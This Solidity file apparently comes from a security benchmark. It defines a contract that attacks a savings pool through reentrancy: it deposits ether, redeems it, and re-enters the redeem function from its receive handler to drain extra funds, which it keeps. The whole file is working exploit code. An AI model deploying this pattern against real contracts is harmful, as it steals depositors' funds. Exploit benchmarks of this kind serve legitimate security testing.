// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

interface ISavingsPool {
    function save() external payable;
    function redeem(uint256 amount) external;
}

/// @title SavingsReentrancer
/// @notice Benchmark attacker of `EtherSavingsPool.redeem`: saves `msg.value`, redeems it and
/// re-enters `redeem` from `receive` `reentries` times. The loot stays here.
contract SavingsReentrancer {
    address public immutable owner;
    ISavingsPool public immutable pool;
    uint256 private _left;
    uint256 private _amount;

    error NotOwner(address caller);

    constructor(ISavingsPool pool_) {
        owner = msg.sender;
        pool = pool_;
    }

    function strike(uint256 reentries) external payable {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _left = reentries;
        _amount = msg.value;
        pool.save{value: msg.value}();
        pool.redeem(msg.value);
        _left = 0;
    }

    receive() external payable {
        if (msg.sender == address(pool) && _left > 0) {
            --_left;
            pool.redeem(_amount);
        }
    }
}
